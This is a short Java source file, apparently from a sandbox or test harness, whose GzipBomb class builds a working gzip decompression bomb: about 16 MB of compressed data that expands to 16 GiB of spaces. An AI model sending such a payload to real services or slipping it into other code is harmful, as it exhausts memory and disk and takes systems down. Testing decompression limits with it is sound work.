package dev.onhand.sandbox.wire;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.Arrays;
import java.util.zip.Deflater;

/**
 * What is 16 MB in gzip and unfolds to 16 GiB of blanks. A piece of it is packed once and then sent
 * again and again: nothing in it refers to what was before.
 */
final class GzipBomb {

  static final int PIECES = 1_024;

  private static final int BLANKS_OF_PIECE = 16 * 1024 * 1024;
  private static final byte[] HEADER = {0x1f, (byte) 0x8b, Deflater.DEFLATED, 0, 0, 0, 0, 0, 0, 0};

  /** An empty block, which is the last. */
  private static final byte[] LAST_BLOCK = {3, 0};

  /** As gzip has it (CRC-32), of all of it unfolded. */
  private static final int SUM = 0x17d132a8;

  private static final byte[] PIECE = pack((byte) ' ');

  private GzipBomb() {}

  static byte[] header() {
    return HEADER.clone();
  }

  static byte[] piece() {
    return PIECE.clone();
  }

  /** What comes after all pieces. */
  static byte[] end() {
    return ByteBuffer.allocate(LAST_BLOCK.length + 2 * Integer.BYTES)
        .order(ByteOrder.LITTLE_ENDIAN)
        .put(LAST_BLOCK)
        .putInt(SUM)
        .putInt((int) ((long) PIECES * BLANKS_OF_PIECE))
        .array();
  }

  private static byte[] pack(byte of) {
    byte[] all = new byte[BLANKS_OF_PIECE];
    Arrays.fill(all, of);
    Deflater packing = new Deflater(Deflater.DEFAULT_COMPRESSION, true);
    packing.setInput(all);
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    byte[] some = new byte[64 * 1024];
    int length;
    do {
      length = packing.deflate(some, 0, some.length, Deflater.FULL_FLUSH);
      packed.write(some, 0, length);
    } while (length == some.length);
    packing.end();
    return packed.toByteArray();
  }
}
